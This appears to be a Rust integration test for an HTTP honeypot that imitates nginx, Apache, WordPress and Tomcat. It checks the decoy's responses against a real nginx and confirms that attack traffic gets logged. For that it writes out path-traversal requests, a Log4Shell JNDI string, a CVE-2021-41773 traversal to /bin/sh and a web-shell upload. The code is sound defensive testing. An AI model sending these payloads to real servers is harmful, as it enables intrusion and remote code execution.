@@ -1,0 +1,365 @@
+//! The http decoy over a real socket, and against a real nginx.
+//!
+//! The control is Debian's nginx on a 127.x address of its own; where it is not installed, or is of another version than the
+//! persona's, the comparison says so and is skipped.
+#![cfg(feature = "serve")]
+#![allow(
+    clippy::unwrap_used,
+    clippy::panic,
+    clippy::indexing_slicing,
+    clippy::print_stdout,
+    reason = "in a test a panic is the report, and a skipped comparison is printed"
+)]
+
+mod support;
+
+use std::{
+    io::{Read as _, Write as _},
+    net::{SocketAddr, TcpStream},
+    process::{Child, Command},
+    time::{Duration, Instant},
+};
+
+use decnet_decoys::http::request;
+use decnet_persona::{Distro, Persona, PersonaSpec, ProductKind, Seed};
+use support::start;
+
+/// A persona of `distro` whose web server is `product`: the first seed that draws it.
+fn persona(distro: Distro, product: &str) -> PersonaSpec {
+    (0..64_u8)
+        .map(|n| PersonaSpec {
+            distro: Some(distro),
+            ..PersonaSpec::new(Seed::from_bytes([n; 16]), "web-server")
+        })
+        .find(|spec| Persona::derive(spec).unwrap().product(ProductKind::Web).name == product)
+        .unwrap()
+}
+
+/// Send `raw`, say that nothing more comes, and read to the end.
+fn ask(address: SocketAddr, raw: &[u8]) -> Vec<u8> {
+    let mut stream = TcpStream::connect(address).unwrap();
+    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+    stream.write_all(raw).unwrap();
+    stream.shutdown(std::net::Shutdown::Write).unwrap();
+    let mut answer = Vec::new();
+    // A reset after the last byte ends an answer as well as a close does.
+    let _reset_is_an_end = stream.read_to_end(&mut answer);
+    answer
+}
+
+fn text(address: SocketAddr, raw: &str) -> String {
+    String::from_utf8_lossy(&ask(address, raw.as_bytes())).into_owned()
+}
+
+/// Status line, header names in order with the values that two machines share, and the body of an error.
+fn shape(answer: &[u8]) -> String {
+    let text = String::from_utf8_lossy(answer);
+    let Some((head, body)) = text.split_once("\r\n\r\n") else {
+        return format!("no head, a page: {}", text.starts_with("<!DOCTYPE html>"));
+    };
+    let error = !head.starts_with("HTTP/1.1 20") && !head.starts_with("HTTP/1.1 304");
+    let mut lines = head.split("\r\n");
+    let mut out = lines.next().unwrap_or_default().to_owned();
+    for line in lines {
+        let (name, value) = line.split_once(": ").unwrap_or((line, ""));
+        let own = match name {
+            "Date" | "Last-Modified" | "ETag" => true,
+            "Content-Length" | "Content-Range" => !error,
+            _ => false,
+        };
+        out.push_str(&format!("\n{name}: {}", if own { "…" } else { value }));
+    }
+    if error {
+        out.push_str("\n\n");
+        out.push_str(body);
+    }
+    out
+}
+
+const TRANSCRIPT: &[&str] = &[
+    "GET / HTTP/1.1\r\nHost: a\r\n\r\n",
+    "GET / HTTP/1.0\r\n\r\n",
+    "GET /\r\n",
+    "GET / HTTP/1337\r\nHost: a\r\n\r\n",
+    "GET / HTTP/2.0\r\nHost: a\r\n\r\n",
+    "GET / HTTP/1.9\r\nHost: a\r\n\r\n",
+    "GET / HTTP/1.1\r\n\r\n",
+    "HEAD / HTTP/1.1\r\nHost: a\r\n\r\n",
+    "OPTIONS / HTTP/1.1\r\nHost: a\r\n\r\n",
+    "TRACE / HTTP/1.1\r\nHost: a\r\n\r\n",
+    "FOO / HTTP/1.1\r\nHost: a\r\n\r\n",
+    "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
+    "PUT /x HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
+    "DELETE / HTTP/1.1\r\nHost: a\r\n\r\n",
+    "CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n",
+    "GET /nope HTTP/1.1\r\nHost: a\r\n\r\n",
+    "GET /../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
+    "GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
+    "GET /a/../ HTTP/1.1\r\nHost: a\r\n\r\n",
+    "GET /%00 HTTP/1.1\r\nHost: a\r\n\r\n",
+    "GET /%zz HTTP/1.1\r\nHost: a\r\n\r\n",
+    "garbage\r\n\r\n",
+    "\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n",
+    "GET / HTTP/1.1\r\nHost: a\r\nRange: bytes=0-9\r\n\r\n",
+    "GET / HTTP/1.1\r\nHost: a\r\nIf-None-Match: *\r\n\r\n",
+    "GET / HTTP/1.1\r\nHost: a\r\nIf-Modified-Since: Fri, 01 Jan 2100 00:00:00 GMT\r\n\r\n",
+    "GET / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: foo\r\n\r\n",
+    "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n",
+    "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
+    "GET / HTTP/1.1\r\nHost: a/b\r\n\r\n",
+    "GET http://b/ HTTP/1.1\r\nHost: a\r\n\r\n",
+    "GET / HTTP/1.1\r\nHost: a\r\nbad header\r\n\r\n",
+    "GET / HTTP/1.1\r\nHost: a\r\nContent-Length: x\r\n\r\n",
+    "GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
+    "GET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n",
+    "\u{16}\u{3}\u{1}",
+    "get / HTTP/1.1\r\nHost: a\r\n\r\n",
+    "GET  / HTTP/1.1 \r\nHost: a\r\n\r\n",
+    "GET x HTTP/1.1\r\nHost: a\r\n\r\n",
+    "OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n",
+    "GET /wp-content HTTP/1.1\r\nHost: a\r\n\r\n",
+    "GET /wp-content/ HTTP/1.1\r\nHost: a\r\n\r\n",
+    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
+    "GET / HTTP/1.1\r\nHost: a\r\n\r\nHEAD / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
+];
+
+struct Nginx(Child);
+
+impl Drop for Nginx {
+    fn drop(&mut self) {
+        // It may have ended by itself; either way it is gone.
+        let _gone = self.0.kill();
+        let _reaped = self.0.wait();
+    }
+}
+
+/// A real nginx that serves a page and a folder that may not be listed; `None`, with the reason printed, where there is none.
+fn nginx(folder: &std::path::Path, version: &str) -> Option<(Nginx, SocketAddr)> {
+    let Ok(told) = Command::new("nginx").arg("-v").output() else {
+        println!("skipped: nginx is not installed");
+        return None;
+    };
+    let told = String::from_utf8_lossy(&told.stderr).into_owned();
+    if !told.contains(version) {
+        println!("skipped: the persona has {version}, installed is {told}");
+        return None;
+    }
+    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let address = free.local_addr().unwrap();
+    drop(free);
+    let root = folder.join("html");
+    std::fs::create_dir_all(root.join("wp-content")).unwrap();
+    std::fs::write(root.join("index.html"), "<!DOCTYPE html>\nx".repeat(20)).unwrap();
+    let f = folder.display();
+    let config = format!(
+        "daemon off; master_process off; pid {f}/pid; error_log {f}/err;\nevents {{}}\nhttp {{ access_log off; \
+         client_body_temp_path {f}/b; proxy_temp_path {f}/p; fastcgi_temp_path {f}/f; uwsgi_temp_path {f}/u; \
+         scgi_temp_path {f}/s; types {{ text/html html; }} port_in_redirect off; server {{ listen {address}; root \
+         {f}/html; location / {{ try_files $uri $uri/ =404; }} }} }}\n"
+    );
+    let file = folder.join("nginx.conf");
+    std::fs::write(&file, config).unwrap();
+    let child = Command::new("nginx")
+        .arg("-p")
+        .arg(folder)
+        .arg("-c")
+        .arg(&file)
+        .spawn()
+        .unwrap();
+    let child = Nginx(child);
+    let until = Instant::now() + Duration::from_secs(10);
+    while TcpStream::connect(address).is_err() {
+        assert!(Instant::now() < until, "nginx does not answer");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    Some((child, address))
+}
+
+#[test]
+fn a_transcript_of_forty_requests_looks_as_nginx_answers_it() {
+    let folder = tempfile::tempdir().unwrap();
+    let Some((_nginx, control)) = nginx(folder.path(), "nginx/1.22.1") else {
+        return;
+    };
+    let site = start("http", persona(Distro::Debian12, "nginx"), &[("site", "company")]);
+    let mut different = String::new();
+    for raw in TRANSCRIPT {
+        let (real, ours) = (
+            shape(&ask(control, raw.as_bytes())),
+            shape(&ask(site.address, raw.as_bytes())),
+        );
+        if real != ours {
+            different.push_str(&format!("=== {raw:?}\n--- nginx\n{real}\n--- ours\n{ours}\n"));
+        }
+    }
+    assert!(different.is_empty(), "{different}");
+}
+
+#[test]
+fn apache_answers_in_its_own_order_with_its_signature() {
+    let site = start(
+        "http",
+        persona(Distro::Debian12, "Apache"),
+        &[("site", "default")],
+    );
+    let page = text(
+        site.address,
+        "GET / HTTP/1.1\r\nHost: a\r\nConnection: keep-alive\r\n\r\n",
+    );
+    let names: Vec<&str> = page
+        .split("\r\n\r\n")
+        .next()
+        .unwrap()
+        .lines()
+        .skip(1)
+        .filter_map(|line| line.split(": ").next())
+        .collect();
+    assert_eq!(
+        names,
+        [
+            "Date",
+            "Server",
+            "Last-Modified",
+            "ETag",
+            "Accept-Ranges",
+            "Content-Length",
+            "Vary",
+            "Keep-Alive",
+            "Connection",
+            "Content-Type"
+        ]
+    );
+    assert!(page.contains("Apache2 Debian Default Page") && page.contains("Server: Apache/2.4."));
+    let missing = text(site.address, "GET /<x> HTTP/1.1\r\nHost: www.example.org\r\n\r\n");
+    assert!(
+        missing
+            .contains("<p>The requested URL was not found on this server.</p>\n<hr>\n<address>Apache/2.4.")
+    );
+    let signature = format!("Server at www.example.org Port {}</address>", site.address.port());
+    assert!(missing.contains(&signature), "{missing}");
+    for (raw, status) in [
+        ("GET / HTTP/1337\r\nHost: a\r\n\r\n", "HTTP/1.1 400 Bad Request"),
+        (
+            "FOO / HTTP/1.1\r\nHost: a\r\n\r\n",
+            "HTTP/1.1 501 Not Implemented",
+        ),
+        (
+            "PUT /x HTTP/1.1\r\nHost: a\r\n\r\n",
+            "HTTP/1.1 405 Method Not Allowed",
+        ),
+        ("OPTIONS / HTTP/1.1\r\nHost: a\r\n\r\n", "HTTP/1.1 200 OK"),
+        ("GET /%2f HTTP/1.1\r\nHost: a\r\n\r\n", "HTTP/1.1 404 Not Found"),
+        ("POST / HTTP/1.1\r\nHost: a\r\n\r\n", "HTTP/1.1 200 OK"),
+    ] {
+        let answer = text(site.address, raw);
+        assert!(answer.starts_with(status), "{raw:?}: {answer}");
+    }
+}
+
+#[test]
+fn logins_uploads_and_exploits_are_reported() {
+    let site = start(
+        "http",
+        persona(Distro::Debian12, "nginx"),
+        &[("site", "wordpress"), ("accept", "after_2")],
+    );
+    let login = |password: &str| {
+        let form = format!("log=admin&pwd={password}");
+        let length = form.len();
+        text(
+            site.address,
+            &format!(
+                "POST /wp-login.php HTTP/1.1\r\nHost: a\r\nUser-Agent: probe/1.0\r\nContent-Type: \
+                 application/x-www-form-urlencoded\r\nContent-Length: {length}\r\n\r\n{form}"
+            ),
+        )
+    };
+    assert!(login("first").contains("is not right"));
+    let inside = login("second");
+    assert!(inside.starts_with("HTTP/1.1 302"), "{inside}");
+    let cookie = inside
+        .lines()
+        .find_map(|line| line.strip_prefix("Set-Cookie: wordpress_logged_in_"))
+        .and_then(|line| line.split(';').next())
+        .unwrap();
+    let admin = format!("GET /wp-admin/ HTTP/1.1\r\nHost: a\r\nCookie: wordpress_logged_in_{cookie}\r\n\r\n");
+    assert!(text(site.address, &admin).contains("Signed in as admin"));
+    site.lines.wait(&[
+        "auth_attempt",
+        "principal=\"admin\"",
+        "secret_printable=\"first\"",
+        "refused",
+    ]);
+    site.lines
+        .wait(&["auth_attempt", "secret_printable=\"second\"", "accepted"]);
+    site.lines.wait(&["client_info", "probe/1.0"]);
+    site.lines
+        .wait(&["request", "path=\"/wp-login.php\"", "status=\"302\""]);
+
+    text(
+        site.address,
+        "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\r\nHost: a\r\n\r\n",
+    );
+    site.lines.wait(&["exploit_attempt", "CVE-2021-44228"]);
+    text(
+        site.address,
+        "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1\r\nHost: a\r\n\r\n",
+    );
+    site.lines.wait(&["exploit_attempt", "CVE-2021-41773"]);
+
+    text(
+        site.address,
+        "PUT /../x.php HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\nabc",
+    );
+    text(
+        site.address,
+        "PUT /shell.php HTTP/1.1\r\nHost: a\r\nContent-Length: 14\r\n\r\n<?php evil();>",
+    );
+    site.lines.wait(&["file_captured", "via=\"put\"", "shell.php"]);
+    assert_eq!(site.kept().len(), 2, "the file and its description");
+}
+
+#[test]
+fn tomcat_asks_for_an_account_and_takes_basic() {
+    let site = start(
+        "http",
+        persona(Distro::Debian12, "Apache"),
+        &[("site", "tomcat"), ("accept", "always")],
+    );
+    let refused = text(site.address, "GET /manager/html HTTP/1.1\r\nHost: a\r\n\r\n");
+    assert!(
+        refused.starts_with("HTTP/1.1 401") && refused.contains("Basic realm=\"Tomcat Manager Application\"")
+    );
+    let inside = text(
+        site.address,
+        "GET /manager/html HTTP/1.1\r\nHost: a\r\nAuthorization: Basic dG9tY2F0OnMzY3JldA==\r\n\r\n",
+    );
+    assert!(inside.starts_with("HTTP/1.1 200"));
+    site.lines.wait(&[
+        "principal=\"tomcat\"",
+        "secret_printable=\"s3cret\"",
+        "mechanism=\"Basic\"",
+    ]);
+}
+
+#[test]
+fn the_seeds_of_the_fuzzer_are_read_without_a_panic() {
+    let corpus = concat!(env!("CARGO_MANIFEST_DIR"), "/../../fuzz/corpus/http_request");
+    let mut seeds = 0;
+    for entry in std::fs::read_dir(corpus).unwrap() {
+        let raw = std::fs::read(entry.unwrap().path()).unwrap();
+        seeds += 1;
+        for strictness in [
+            request::Strictness::Apache,
+            request::Strictness::Nginx { strict: true },
+            request::Strictness::Nginx { strict: false },
+        ] {
+            if let request::Progress::Whole(n) = request::head_end(&raw, strictness)
+                && let Ok(parsed) = request::parse(&raw[..n], strictness)
+            {
+                assert!(parsed.path == b"*" || parsed.path.starts_with(b"/"));
+            }
+        }
+    }
+    assert!(seeds >= 10);
+}
